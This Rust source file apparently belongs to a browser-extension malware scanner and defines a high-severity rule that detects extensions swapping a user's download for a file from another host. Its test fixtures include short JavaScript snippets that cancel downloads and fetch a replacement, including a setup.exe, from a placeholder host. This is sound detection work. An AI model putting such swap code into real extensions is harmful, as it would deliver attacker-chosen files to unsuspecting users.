//! `download-swapped`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "download-swapped",
    description: "The extension stops the user's download and saves a file from another host instead.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::ExtensionApi])],
    within: 0,
    only_if: Some(swaps),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "chrome.downloads.onCreated.addListener(d=>{if(/exe$/.test(d.filename)){chrome.downloads.cancel(d.id);chrome.downloads.download({url:'https://dl.example/setup.exe'})}})",
            "browser.downloads.onCreated.addListener(async d=>{await browser.downloads.cancel(d.id);browser.downloads.download({url:'https://dl.example/get?n='+encodeURIComponent(d.filename)})})",
            "chrome.downloads.onDeterminingFilename.addListener(function(d){chrome.downloads.cancel(d.id,function(){chrome.downloads.download({filename:d.filename,url:'https://dl.example/f'})})})",
        ],
        without: &[
            "chrome.downloads.onCreated.addListener(d=>{if(paused){chrome.downloads.cancel(d.id);later.push(d.url)}})",
            "chrome.downloads.onCreated.addListener(d=>{chrome.downloads.cancel(d.id);chrome.downloads.download({url:d.url,filename:'sorted/'+d.filename})})",
        ],
    },
};

fn swaps(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 90);
    let of_downloads = |at: usize| near.before(at, 1) == "downloads";
    let listens = near.words(&["onCreated", "onDeterminingFilename"]).any(of_downloads);
    listens
        && near.words(&["cancel"]).any(of_downloads)
        && near.words(&["download"]).filter(|at| of_downloads(*at)).any(|at| {
            (at + 1..at + 16).any(|key| {
                near.word(key) == "url"
                    && near.is(key + 1, b':')
                    && near
                        .text_at(key + 2)
                        .is_some_and(|text| text.starts_with("https://") || text.starts_with("http://"))
            })
        })
}
